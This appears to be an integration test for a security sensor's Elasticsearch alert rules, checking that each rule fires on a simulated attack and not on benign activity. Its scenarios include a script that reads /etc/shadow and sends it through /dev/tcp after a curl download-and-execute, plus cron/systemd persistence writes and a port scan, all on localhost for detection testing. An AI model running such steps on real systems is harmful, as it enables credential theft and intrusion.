/**
 * Every alert rule of kibana-plugin/rules/ runs its DSL query against the real Elasticsearch node over what the
 * real sensor (root: eBPF + libpcap on lo, writing into the node) captured while the test played each rule's
 * scenario, and over a benign capture (`npm ci` of a small project, ordinary shell commands). Each rule must fire
 * on its scenario and stay quiet on the benign window; the test prints the table (rule, matches on its scenario,
 * matches on benign data).
 *
 * The machine is shared, and the sensor sees every process on it: syscall-level matches are counted only for the
 * processes this test started (its descendants, from the sensor's own fork events), flows and DNS by time window.
 */
import type { Client } from '@elastic/elasticsearch';
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { EcsEvent } from '../../../kibana-plugin/common/ecs.ts';
import { ENV } from '../../../test/support/attack-scenario.ts';
import { testClient, testNode, type EsNode } from '../../../test/support/es.ts';
import { HTTP_SERVER_PY, LISTENER_PY, readFirstLine, within } from '../../../test/support/scenario.ts';
import { startSensor } from '../../../test/support/sensor.ts';
import { loadRules, ruleQuery, type ShippedRule } from './rules.ts';

setDefaultTimeout(600_000);

const ROOT = resolve(import.meta.dir, '../../..');
const isRoot = process.getuid?.() === 0;
const NS = `rules${process.pid}`;

interface Window {
  from: number;
  to: number;
}

/** Which scenario each rule is proven on ("stopped": the window after the sensor stopped). */
const SCENARIO_OF: Record<string, string> = {
  'provmon-download-tool-writes-file': 'download-exec',
  'provmon-exec-from-world-writable-dir': 'download-exec',
  'provmon-reverse-shell': 'download-exec',
  'provmon-credential-read': 'download-exec',
  'provmon-new-listener': 'listener',
  'provmon-persistence-write': 'persistence',
  'provmon-dns-suspicious-tld': 'dns-tld',
  'provmon-port-scan': 'scan',
  'provmon-sensor-silent': 'stopped',
};
/** Rules no scenario here can produce, and why (reported, not hidden). */
const NOT_PRODUCED: Record<string, string> = {
  'provmon-pcap-drops': 'libpcap drops cannot be caused on demand here (the default TPACKET_V3 ring dropped nothing in any test); the query runs, with 0 matches on both windows',
};

const sh = (script: string, cwd: string) => {
  const r = Bun.spawnSync(['bash', '-c', script], { cwd, env: ENV, stdout: 'pipe', stderr: 'pipe' });
  if (r.exitCode !== 0) throw new Error(`scenario step failed (${r.exitCode}): ${script}\n${r.stderr.toString()}`);
  return r.stdout.toString();
};

async function downloadExec(work: string): Promise<void> {
  mkdirSync(join(work, 'srv'), { recursive: true });
  mkdirSync(join(work, 'dl'), { recursive: true });
  const listener = Bun.spawn(['python3', '-c', LISTENER_PY], { cwd: work, stdout: 'pipe', stderr: 'ignore', env: ENV });
  const http = Bun.spawn(['python3', '-c', HTTP_SERVER_PY, join(work, 'srv')], { cwd: work, stdout: 'pipe', stderr: 'ignore', env: ENV });
  try {
    const listenerPort = Number(await within(readFirstLine(listener), 20_000, ''));
    const httpPort = Number(await within(readFirstLine(http), 20_000, ''));
    if (!listenerPort || !httpPort) throw new Error('the scenario servers did not start');
    writeFileSync(join(work, 'srv', 'update.sh'), ['#!/bin/bash', "read -r -d '' loot < /etc/shadow", `exec 3<>/dev/tcp/127.0.0.1/${listenerPort}`, 'printf "%s" "$loot" >&3', 'exec 3>&-', ''].join('\n'));
    const dropped = join(work, 'dl', 'update.sh');
    sh(`curl -s -o ${dropped} http://127.0.0.1:${httpPort}/update.sh && chmod +x ${dropped} && ${dropped}`, work);
    await within(listener.exited, 10_000, undefined);
  } finally {
    listener.kill('SIGKILL');
    http.kill('SIGKILL');
    await Promise.all([listener.exited, http.exited]);
  }
}

const SCENARIOS: Record<string, (work: string) => Promise<void> | void> = {
  'download-exec': downloadExec,
  listener: (work) => void sh(`python3 -c 'import socket,time; s=socket.socket(); s.bind(("127.0.0.1",0)); s.listen(1); time.sleep(0.3)'`, work),
  persistence: (work) =>
    void sh(
      `f=/etc/cron.d/provmon-rule-test-$$; echo '# provmon rule test' > $f; rm -f $f; u=/etc/systemd/system/provmon-rule-test-$$.service; printf '[Unit]\\nDescription=provmon rule test\\n' > $u; rm -f $u`,
      work,
    ),
  'dns-tld': (work) =>
    void sh(
      `python3 -c 'import socket; q=bytes.fromhex("12340100000100000000000010633270726f766d6f6e2d74657374303303746f700000010001"); s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, ("127.0.0.1", 53))'`,
      work,
    ),
  scan: (work) =>
    void sh(
      `python3 -c '
import socket
for p in range(40100, 40160):
    s = socket.socket(); s.settimeout(0.5)
    try: s.connect(("127.0.0.1", p))
    except OSError: pass
    s.close()'`,
      work,
    ),
};

const BENIGN = (project: string) => `cd ${project} && npm ci --no-audit --no-fund --loglevel=error && ls /etc > /dev/null && cat /etc/hostname > /dev/null && git --version > /dev/null && python3 -c 'print(1)' > /dev/null`;

let node: EsNode;
let client: Client;
const rules = loadRules();
const windows = new Map<string, Window>();
let benign: Window;
let sensorWindow: Window;
let ours: string[] = [];
let summary: { output?: { spool_docs?: number } } | undefined;
const dirs: string[] = [];

/** Entity ids of every process this test started (fork events whose parent is ours, transitively). */
async function ourProcesses(): Promise<string[]> {
  const r = await client.search<EcsEvent>({
    index: `logs-provmon.process-${NS}`,
    size: 10_000,
    query: { bool: { filter: [{ terms: { 'event.action': ['fork', 'already_running'] } }] } },
    _source: ['process.pid', 'process.entity_id', 'process.parent.entity_id', 'event.action'],
  });
  const children = new Map<string, string[]>();
  let root: string | undefined;
  for (const h of r.hits.hits) {
    const p = h._source!.process!;
    if (h._source!.event.action === 'already_running' && p.pid === process.pid) root = p.entity_id;
    if (p.parent?.entity_id) children.set(p.parent.entity_id, [...(children.get(p.parent.entity_id) ?? []), p.entity_id]);
  }
  if (!root) throw new Error(`the sensor reported no already_running event for the test process (pid ${process.pid})`);
  const out = new Set<string>([root]);
  const queue = [root];
  while (queue.length) for (const c of children.get(queue.pop()!) ?? []) if (!out.has(c)) (out.add(c), queue.push(c));
  return [...out];
}

interface Outcome {
  matches: number;
  fires: boolean;
}

const compare = (op: string, value: number, threshold: number[]) =>
  op === '>' ? value > threshold[0]! : op === '>=' ? value >= threshold[0]! : op === '<' ? value < threshold[0]! : op === '<=' ? value <= threshold[0]! : false;

/** The rule's query over one window of this test's namespace, evaluated as the es-query rule evaluates it. */
async function evaluate(rule: ShippedRule, w: Window): Promise<Outcome> {
  const p = rule.body.params;
  const filter: unknown[] = [
    ruleQuery(rule),
    { range: { [p.timeField]: { gte: new Date(w.from).toISOString(), lte: new Date(w.to).toISOString() } } },
    { term: { 'data_stream.namespace': NS } },
  ];
  const index = p.index.join(',');
  const dataset = index.includes('.dns-') || index.includes('.flow-') || index.includes('.*-');
  if (!dataset) filter.push({ terms: { 'process.entity_id': ours } });
  const r = await client.search({
    index,
    size: 0,
    track_total_hits: true,
    query: { bool: { filter } } as never,
    ...(p.groupBy === 'top' ? { aggs: { groups: { terms: { field: p.termField!, size: p.termSize ?? 10 } } } } : {}),
  });
  const total = typeof r.hits.total === 'number' ? r.hits.total : (r.hits.total?.value ?? 0);
  if (p.groupBy === 'top') {
    const buckets = (r.aggregations?.groups as { buckets: { doc_count: number }[] } | undefined)?.buckets ?? [];
    return { matches: total, fires: buckets.some((b) => compare(p.thresholdComparator, b.doc_count, p.threshold)) };
  }
  return { matches: total, fires: compare(p.thresholdComparator, total, p.threshold) };
}

describe.skipIf(!isRoot)('alert rules over real captures (root, kernel BPF, libpcap, real Elasticsearch node)', () => {
  beforeAll(async () => {
    node = await testNode('open');
    client = testClient(node);
    const setup = Bun.spawnSync([resolve(ROOT, 'bin/provmon'), 'setup', '--core-only', '--es', node.url], { cwd: ROOT, env: { ...process.env, PROVMON_CONFIG: '' } });
    if (setup.exitCode !== 0) throw new Error(`setup failed: ${setup.stderr.toString()}`);
    // the benign project's lock file is made before the capture (its registry lookups are not part of the window)
    const project = mkdtempSync(join(tmpdir(), 'provmon-benign-'));
    dirs.push(project);
    writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'benign', version: '1.0.0', private: true, dependencies: { ms: '2.1.3', 'is-number': '7.0.0' } }));
    sh('npm install --package-lock-only --no-audit --no-fund --loglevel=error', project);
    const work = mkdtempSync(join(tmpdir(), 'provmon-rules-'));
    chmodSync(work, 0o755);
    dirs.push(work);
    const eventsDir = mkdtempSync(join(tmpdir(), 'provmon-rules-events-'));
    dirs.push(eventsDir);
    const sensor = await startSensor({
      eventsDir,
      pcapInterface: 'lo',
      args: ['--es', node.url, '--output-dir', eventsDir, '--set', 'ebpf_config.file_logging_enabled=true', '--set', 'es_config.batch_max_latency_ms=200', '--set', `es_config.namespace=${NS}`, '--duration', '300'],
    });
    // startSensor returns once libpcap is attached; the syscall side must be too before any scenario runs
    for (let i = 0; i < 600 && !sensor.logLines().some((l) => l.includes('eBPF capture attached')); i++) await Bun.sleep(100);
    const started = Date.now();
    try {
      for (const [name, run] of Object.entries(SCENARIOS)) {
        const from = Date.now();
        await run(work);
        // a refused TCP flow lingers 5 s after its RST before its final report (docs/pcap.md): wait for it in the run
        await Bun.sleep(name === 'scan' ? 6000 : 300);
        windows.set(name, { from, to: Date.now() });
        await Bun.sleep(1200); // keeps the next scenario's window apart
      }
      const from = Date.now();
      sh(BENIGN(project), project);
      await Bun.sleep(300);
      benign = { from, to: Date.now() };
    } finally {
      summary = (await sensor.stop()) as typeof summary;
    }
    sensorWindow = { from: started, to: Date.now() };
    // the flows and unanswered DNS queries are reported at shutdown, with their packet times
    windows.set('stopped', { from: Date.now() + 3_600_000, to: Date.now() + 4_200_000 });
    await client.indices.refresh({ index: `logs-provmon.*-${NS}` });
    ours = await ourProcesses();
  }, 600_000);

  afterAll(async () => {
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
    await client?.close();
  });

  test('every rule file is a valid create body; every rule has a scenario or says why not', () => {
    expect(rules.length).toBeGreaterThanOrEqual(10);
    for (const r of rules) expect({ rule: r.name, covered: r.name in SCENARIO_OF || r.name in NOT_PRODUCED }).toEqual({ rule: r.name, covered: true });
  });

  test('the capture reached Elasticsearch: every dataset has documents', async () => {
    const r = await client.search({ index: `logs-provmon.*-${NS}`, size: 0, aggs: { datasets: { terms: { field: 'data_stream.dataset', size: 10 } } } });
    const counts = Object.fromEntries(((r.aggregations?.datasets as { buckets: { key: string; doc_count: number }[] }).buckets).map((b) => [b.key, b.doc_count]));
    console.log('documents per dataset:', counts, 'sensor summary:', JSON.stringify(summary));
    // A node too slow for the machine's load makes the sensor spool (nothing is lost, but the capture is not in
    // Elasticsearch yet): say so rather than report rules that "did not fire".
    expect({ documents_left_in_the_sensors_spool: summary?.output?.spool_docs ?? 0 }).toEqual({ documents_left_in_the_sensors_spool: 0 });
    for (const d of ['process', 'file', 'network', 'flow', 'dns']) expect({ dataset: d, some: (counts[`provmon.${d}`] ?? 0) > 0 }).toEqual({ dataset: d, some: true });
  });

  test('each rule fires on its scenario and not on the benign capture (table printed)', async () => {
    const rows: string[] = ['| rule | scenario | matches on its scenario | fires | matches on benign | fires on benign |', '|---|---|---|---|---|---|'];
    const failures: string[] = [];
    for (const rule of rules) {
      const scenario = SCENARIO_OF[rule.name];
      // the silent-sensor rule's benign window is the running sensor's whole capture
      const quiet = await evaluate(rule, rule.name === 'provmon-sensor-silent' ? sensorWindow : benign);
      if (!scenario) {
        rows.push(`| ${rule.name} | not produced: ${NOT_PRODUCED[rule.name]} | – | – | ${quiet.matches} | ${quiet.fires ? 'yes' : 'no'} |`);
        if (quiet.fires) failures.push(`${rule.name} fires on benign data`);
        continue;
      }
      const hit = await evaluate(rule, windows.get(scenario)!);
      rows.push(`| ${rule.name} | ${scenario} | ${hit.matches} | ${hit.fires ? 'yes' : 'no'} | ${quiet.matches} | ${quiet.fires ? 'yes' : 'no'} |`);
      if (!hit.fires) failures.push(`${rule.name} does not fire on ${scenario}`);
      if (quiet.fires) failures.push(`${rule.name} fires on benign data`);
    }
    console.log(`\nalert rules over real captures (namespace ${NS}):\n${rows.join('\n')}\n`);
    expect(failures).toEqual([]);
  });
});
